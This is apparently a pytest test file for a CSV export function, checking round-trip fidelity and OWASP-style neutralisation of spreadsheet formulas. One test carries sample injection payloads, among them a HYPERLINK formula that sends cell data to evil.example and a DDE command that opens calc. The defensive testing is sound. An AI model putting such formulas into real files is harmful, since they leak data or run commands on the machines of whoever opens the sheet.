"""CSV read back with Python's csv module: one row per experiment, every field, exactly."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

from hypothesis import given, settings

from retro.domain.codec import to_dict
from retro.domain.kata import Experiment
from retro.export.csv_export import COLUMNS, export_csv
from tests.unit.test_export_common import IDS, PLAIN, story, story_texts


def as_cell(value: str) -> str:
    """What a text becomes in a cell: one that a spreadsheet would run as a formula starts with `'`."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def check(texts: dict[str, str]) -> None:
    s = story(texts)
    text = export_csv(s.data())
    got = {row["id"]: row for row in rows(text)}
    assert set(got) == {e.id for e in s.experiments}
    for ex in s.experiments:
        row = got[ex.id]
        plain = to_dict(ex)
        for name, value in plain.items():
            if name == "amendments":
                assert (json.loads(row[name]) if row[name] else []) == value
            elif name == "item_ids":
                assert row[name].split() == value
            else:
                assert row[name] == as_cell("" if value is None else str(value)), name
        tc = s.data().target_condition_of(ex)
        assert row["target_condition"] == as_cell(tc.title if tc else "")
        assert row["amendment_count"] == str(len(ex.amendments))


def test_every_field_of_every_experiment() -> None:
    check({})
    header = next(csv.reader(io.StringIO(export_csv(story().data()))))
    assert header == COLUMNS
    assert {f.name for f in dataclasses.fields(Experiment)} <= set(header)


def test_commas_quotes_and_newlines_survive() -> None:
    check({"step": 'Ask "Anna", then Bo', "expectation": "line one\r\nline two\nåäö 😀", "owner": "=SUM(A1)",
           "amended": "a,b;c\"d"})


def test_no_cell_is_a_formula() -> None:
    """OWASP's rule: a cell starting with = + - @, a tab or a CR gets a leading ', so a
    spreadsheet shows it as text and never runs it (a link that sends the sheet away, a DDE
    command); text that only contains one is left as it is."""
    texts = {"step": '=HYPERLINK("http://evil.example/?"&A1,"click")', "expectation": "+1+cmd|' /C calc'!A0",
             "owner": "@SUM(1)", "happened": "-2+3", "learned": "\t=1+1", "abandon": "\r=1", "tc": "=tc",
             "obstacle": "@obstacle", "step2": "1 = 1, not + or -"}
    got = {row["id"]: row for row in rows(export_csv(story(texts).data()))}
    done = got[IDS["done"]]
    assert done["step"] == "'" + texts["step"]
    assert done["expectation"] == "'" + texts["expectation"]
    assert done["owner"] == "'@SUM(1)"
    assert done["happened"] == "'-2+3"
    assert done["learned"] == "'\t=1+1"
    assert done["target_condition"] == "'=tc" and done["obstacle"] == "'@obstacle"
    assert got[IDS["abandoned"]]["abandon_reason"] == "'\r=1"
    assert got[IDS["running"]]["step"] == "1 = 1, not + or -"
    for row in got.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@settings(max_examples=60, deadline=None)
@given(texts=story_texts)
def test_adversarial_text_survives(texts: dict[str, str]) -> None:
    check(texts)


def test_rows_end_in_crlf_and_the_original_expectation_stays() -> None:
    text = export_csv(story().data())
    assert text.count("\r\n") >= 5  # header and four rows (RFC 4180)
    done = next(r for r in rows(text) if r["id"] == IDS["done"])
    assert done["expectation"] == PLAIN["expectation"]  # the amendment is beside it, not over it
    assert PLAIN["amended"] in done["amendments"]
    assert done["as_expected"] == "partly"
